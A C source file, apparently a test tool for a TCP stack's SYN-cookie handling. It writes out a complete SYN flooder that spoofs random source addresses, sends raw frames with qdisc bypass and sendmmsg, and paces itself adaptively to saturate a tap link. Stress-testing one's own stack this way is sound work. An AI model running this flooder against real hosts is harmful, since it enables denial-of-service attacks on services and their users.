// SYN flood with spoofed sources for integration/syn_flood_test.sh (issue 6), from the
// kernel side of a tap wire: an AF_PACKET socket with PACKET_QDISC_BYPASS hands frames
// built in place to the driver with sendmmsg, from one core. Each SYN has a random
// source address (198.19.0.0/16, off the wire's subnet, so the SYN-ACKs go to the
// gateway and die in a kernel that does not forward; ONLINK_PERCENT of them from the
// wire's /24, .3-.254, hosts nobody has, so the target keeps resolving neighbours that
// never answer), a random source port and ISN, and one of two option sets (Linux's
// MSS,SACK,TS,WS; MSS only) so both SYN-cookie encodings are exercised.
// Rate: "max" (as fast as the driver takes them: the tap's ring stays full), "adapt"
// (the highest rate the tap delivers, see the pacing comment) or a fixed rate.
// Prints a line every 10 s and "sent N frames in S s (R/s), D refused by the wire (P %)".
//
// usage: flooder IFACE DST_MAC DST_IP DST_PORT SECONDS [ONLINK_PERCENT [max|adapt|PPS]]
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { kBatch = 128, kFrameMax = 80 };

static volatile sig_atomic_t stop_requested;
static void on_signal(int sig) { (void)sig; stop_requested = 1; }

static uint64_t rng_state = 0x9e3779b97f4a7c15ull;
static uint64_t rng(void) {  // xorshift64*: fast, and the quality does not matter here
  rng_state ^= rng_state >> 12;
  rng_state ^= rng_state << 25;
  rng_state ^= rng_state >> 27;
  return rng_state * 0x2545f4914f6cdd1dull;
}

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint32_t sum16(const uint8_t* p, size_t n, uint32_t sum) {
  for (size_t i = 0; i + 1 < n; i += 2) sum += (uint32_t)(p[i] << 8 | p[i + 1]);
  if (n & 1) sum += (uint32_t)(p[n - 1] << 8);
  return sum;
}

static uint16_t fold(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

static void put16(uint8_t* p, uint16_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }
static void put32(uint8_t* p, uint32_t v) {
  p[0] = (uint8_t)(v >> 24); p[1] = (uint8_t)(v >> 16); p[2] = (uint8_t)(v >> 8); p[3] = (uint8_t)v;
}

static int parse_mac(const char* s, uint8_t mac[6]) {
  unsigned v[6];
  if (sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6) return -1;
  for (int i = 0; i < 6; ++i) mac[i] = (uint8_t)v[i];
  return 0;
}

// One SYN from a random source into frame f; returns its length.
static size_t build_syn(uint8_t* f, const uint8_t dst_mac[6], const uint8_t src_mac[6],
                        uint32_t dst_ip, uint16_t dst_port, uint32_t onlink_net, int onlink_percent) {
  const uint64_t r = rng();
  uint32_t src_ip;
  if ((int)(r % 100) < onlink_percent) {
    src_ip = onlink_net | (uint32_t)(3 + (r >> 8) % 252);  // .3 .. .254: nobody has them
  } else {
    src_ip = 0xc6130000u | (uint32_t)((r >> 8) & 0xffff);  // 198.19.0.0/16
  }
  const int linux_opts = (r >> 24) & 1;
  const size_t tcp_len = linux_opts ? 40 : 24;
  const size_t ip_len = 20 + tcp_len;

  memcpy(f, dst_mac, 6);
  memcpy(f + 6, src_mac, 6);
  put16(f + 12, ETHERTYPE_IP);

  uint8_t* ip = f + 14;
  memset(ip, 0, 20);
  ip[0] = 0x45;
  put16(ip + 2, (uint16_t)ip_len);
  put16(ip + 4, (uint16_t)(r >> 32));
  put16(ip + 6, 0x4000);  // DF
  ip[8] = 64;
  ip[9] = IPPROTO_TCP;
  put32(ip + 12, src_ip);
  put32(ip + 16, dst_ip);
  put16(ip + 10, fold(sum16(ip, 20, 0)));

  uint8_t* tcp = ip + 20;
  memset(tcp, 0, tcp_len);
  const uint64_t r2 = rng();
  put16(tcp, (uint16_t)(1024 + (r2 % 64512)));
  put16(tcp + 2, dst_port);
  put32(tcp + 4, (uint32_t)(r2 >> 32));  // ISN
  tcp[12] = (uint8_t)((tcp_len / 4) << 4);
  tcp[13] = 0x02;  // SYN
  put16(tcp + 14, 64240);
  uint8_t* o = tcp + 20;
  o[0] = 2; o[1] = 4; put16(o + 2, 1460);  // MSS
  if (linux_opts) {
    o[4] = 4; o[5] = 2;                        // SACK permitted
    o[6] = 8; o[7] = 10; put32(o + 8, (uint32_t)r2); put32(o + 12, 0);  // timestamps
    o[16] = 1;                                 // NOP
    o[17] = 3; o[18] = 3; o[19] = 7;           // window scale 7
  }
  uint32_t sum = 0;
  sum = sum16(ip + 12, 8, sum);  // pseudo header: addresses, protocol, TCP length
  sum += IPPROTO_TCP + (uint32_t)tcp_len;
  sum = sum16(tcp, tcp_len, sum);
  put16(tcp + 16, fold(sum));
  return 14 + ip_len;
}

int main(int argc, char** argv) {
  if (argc < 6) {
    fprintf(stderr, "usage: %s IFACE DST_MAC DST_IP DST_PORT SECONDS [ONLINK_PERCENT [max|adapt|PPS]]\n", argv[0]);
    return 2;
  }
  const char* ifname = argv[1];
  uint8_t dst_mac[6], src_mac[6];
  struct in_addr dst;
  if (parse_mac(argv[2], dst_mac) != 0 || inet_pton(AF_INET, argv[3], &dst) != 1) {
    fprintf(stderr, "flooder: bad MAC or address\n");
    return 2;
  }
  const uint16_t dst_port = (uint16_t)atoi(argv[4]);
  const double seconds = atof(argv[5]);
  const int onlink_percent = argc > 6 ? atoi(argv[6]) : 0;
  const char* rate_arg = argc > 7 ? argv[7] : "max";
  const uint32_t dst_ip = ntohl(dst.s_addr);
  const uint32_t onlink_net = dst_ip & 0xffffff00u;
  rng_state ^= (uint64_t)getpid() << 32 ^ (uint64_t)time(NULL);

  const int fd = socket(AF_PACKET, SOCK_RAW, 0);  // protocol 0: send only, receive nothing
  if (fd < 0) { perror("flooder: socket"); return 1; }
  struct ifreq ifr;
  memset(&ifr, 0, sizeof ifr);
  snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", ifname);
  if (ioctl(fd, SIOCGIFHWADDR, &ifr) != 0) { perror("flooder: SIOCGIFHWADDR"); return 1; }
  memcpy(src_mac, ifr.ifr_hwaddr.sa_data, 6);
  const int one = 1;
  // Straight to the driver: no qdisc to push back, what the tap cannot take it drops
  // (counted in the interface's TX dropped), as a NIC's full ring would.
  if (setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one) != 0) {
    perror("flooder: PACKET_QDISC_BYPASS");
  }
  struct sockaddr_ll addr;
  memset(&addr, 0, sizeof addr);
  addr.sll_family = AF_PACKET;
  addr.sll_ifindex = (int)if_nametoindex(ifname);
  addr.sll_halen = 6;
  memcpy(addr.sll_addr, dst_mac, 6);
  if (addr.sll_ifindex == 0 || bind(fd, (struct sockaddr*)&addr, sizeof addr) != 0) {
    perror("flooder: bind");
    return 1;
  }
  signal(SIGTERM, on_signal);
  signal(SIGINT, on_signal);

  static uint8_t frames[kBatch][kFrameMax];
  struct iovec iov[kBatch];
  struct mmsghdr msgs[kBatch];
  memset(msgs, 0, sizeof msgs);
  for (int i = 0; i < kBatch; ++i) {
    iov[i].iov_base = frames[i];
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
  }

  // Pacing. "max": no pacing, the tap's ring stays full and drops what utcpd cannot
  // read in time, legitimate frames too. "adapt": the highest rate the wire delivers,
  // found by AIMD on the frames the tap refuses (ENOBUFS with PACKET_QDISC_BYPASS):
  // every 50 ms, -15 % if over 0.2 % were refused, else +10 % until the first refusal
  // (slow start), +1 % after it: the probing that overflows the tap's ring stays rare,
  // so legitimate frames seldom meet a full ring. A number: fixed.
  const int adapt = strcmp(rate_arg, "adapt") == 0;
  int slow_start = 1;
  double rate = adapt ? 20000 : strcmp(rate_arg, "max") == 0 ? 0 : atof(rate_arg);
  const double start = now_s();
  const double end = start + seconds;
  uint64_t sent = 0, dropped = 0, batches = 0;
  uint64_t window_sent = 0, window_dropped = 0;
  double now = start, next_report = start + 10, window_start = start, paced_from = start;
  uint64_t paced_sent = 0;  // frames since paced_from (the rate changes under "adapt")
  while (!stop_requested && now < end) {
    int n = kBatch;
    if (rate > 0) {  // never ahead of rate * elapsed
      const double allowed = rate * (now - paced_from) - (double)paced_sent;
      if (allowed < 1) {
        struct timespec ts = {0, 100000};
        nanosleep(&ts, NULL);
        now = now_s();
        continue;
      }
      if (allowed < n) n = (int)allowed;
    }
    for (int i = 0; i < n; ++i) {
      iov[i].iov_len = build_syn(frames[i], dst_mac, src_mac, dst_ip, dst_port, onlink_net, onlink_percent);
    }
    const int k = sendmmsg(fd, msgs, (unsigned)n, 0);
    // sendmmsg stops at the first frame the driver refused: that one is dropped (and
    // counted in the interface's TX dropped), the rest of the batch was never tried.
    if (k > 0) {
      sent += (uint64_t)k;
      paced_sent += (uint64_t)k;
      window_sent += (uint64_t)k;
    }
    if (k < n) {
      if (k < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
        perror("flooder: sendmmsg");
        return 1;
      }
      if (k >= 0 || errno != EINTR) {
        ++dropped;
        ++window_dropped;
        ++paced_sent;  // a refused frame was offered too
      }
    }
    if ((++batches & 15) == 0 || rate > 0) now = now_s();
    if (adapt && now - window_start >= 0.05) {
      const double offered = (double)(window_sent + window_dropped);
      const double achieved = offered / (now - window_start);
      if ((double)window_dropped > 0.002 * offered) {
        rate *= 0.85;
        slow_start = 0;
      } else if (achieved > 0.8 * rate) {  // grow only when the sender keeps up
        rate *= slow_start ? 1.10 : 1.01;
      }
      if (rate < 1000) rate = 1000;
      window_sent = window_dropped = 0;
      window_start = now;
      paced_from = now;
      paced_sent = 0;
    }
    if (now >= next_report) {
      printf("flooder: %.0f s: %llu frames sent, %llu refused by the wire, pacing at %.0f/s\n",
             now - start, (unsigned long long)sent, (unsigned long long)dropped, rate);
      fflush(stdout);
      next_report += 10;
    }
  }
  const double took = now_s() - start;
  printf("sent %llu frames in %.1f s (%.0f/s), %llu refused by the wire (%.2f %%)\n",
         (unsigned long long)sent, took, (double)sent / took, (unsigned long long)dropped,
         sent + dropped ? 100.0 * (double)dropped / (double)(sent + dropped) : 0.0);
  close(fd);
  return 0;
}
